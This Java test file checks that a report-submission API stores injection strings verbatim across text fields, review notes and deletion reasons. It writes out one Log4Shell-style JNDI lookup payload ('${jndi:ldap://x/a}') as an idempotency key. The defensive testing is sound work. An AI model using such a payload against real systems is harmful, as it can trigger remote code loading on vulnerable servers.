package org.conflictledger.submit;

import static org.conflictledger.testing.LambdaEvents.request;
import static org.junit.jupiter.api.Assertions.assertEquals;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import java.util.List;
import org.conflictledger.testing.MotoResource;
import org.conflictledger.testing.Table;
import org.junit.jupiter.api.Test;

/**
 * Injection strings inside an otherwise valid report are text: stored and answered byte for
 * byte, never interpreted (no expression, no path, no markup escaping, no formula stripping).
 */
@QuarkusTest
@QuarkusTestResource(MotoResource.class)
class InjectionRoundTripTest extends SubmitTestBase {

    static final List<String> TEXT_FIELDS = List.of("/incidentKey", "/source/name", "/place/name", "/summary",
            "/actors/0/name", "/figures/0/text", "/tags/0", "/territory/toActor", "/territory/fromActor",
            "/territory/places/0");

    @Test
    void injectionStringsInEveryTextFieldRoundTripVerbatim() throws Exception {
        int n = 0;
        for (String inj : HostileCorpus.INJECTIONS) {
            ObjectNode report = (ObjectNode) HostileCorpus.tree(HostileCorpus.TERRITORY);
            for (String pointer : TEXT_FIELDS) {
                String body = HostileCorpus.with(report.toString(), pointer,
                        TextNode.valueOf(inj));
                report = (ObjectNode) HostileCorpus.tree(body);
            }
            var r = create("u1", report.toString());
            assertEquals(201, r.status(), inj + ": " + r.body());
            String id = r.json().get("id").asText();
            JsonNode stored = HostileCorpus.tree(items("R#" + id).get(0).get("doc").s());
            for (String pointer : TEXT_FIELDS) {
                assertEquals(inj, r.json().at(pointer).asText(), "answered " + pointer);
                assertEquals(inj, stored.at(pointer).asText(), "stored " + pointer);
            }
            var note = request("POST", "/v1/reports/" + id + "/review").as("ed", "editor")
                    .body("{\"status\":\"disputed\",\"note\":" + TextNode.valueOf(inj) + "}")
                    .send();
            assertEquals(200, note.status(), note.body());
            assertEquals(inj, note.json().get("statusNote").asText());
            var reason = request("DELETE", "/v1/reports/" + id).as("u1", "reporter")
                    .body("{\"reason\":" + TextNode.valueOf(inj) + "}").send();
            assertEquals(200, reason.status(), reason.body());
            assertEquals(inj, reason.json().get("statusNote").asText());
            assertEquals(4, items("R#" + id).size(), "head and three revisions: nothing else touched");
            n++;
        }
        // Idempotency keys are printable ASCII, so injection strings are valid keys too, and only keys.
        var k1 = request("POST", "/v1/reports").as("u1", "reporter").header("Idempotency-Key", "${jndi:ldap://x/a}")
                .body(HostileCorpus.INCIDENT).send();
        var k2 = request("POST", "/v1/reports").as("u1", "reporter").header("Idempotency-Key", "${jndi:ldap://x/a}")
                .body(HostileCorpus.INCIDENT).send();
        assertEquals(201, k1.status(), k1.body());
        assertEquals(k1.json().get("id"), k2.json().get("id"));
        assertEquals(HostileCorpus.INJECTIONS.size() + 1, LedgerCheck.reports(
                Table.items(db, MotoResource.TABLE)));
        assertEquals(List.of(), LedgerCheck.halfWritten(Table.items(db, MotoResource.TABLE)));
        System.out.printf("injection round trip: %d strings x %d text fields + note + reason stored verbatim%n",
                n, TEXT_FIELDS.size());
    }
}
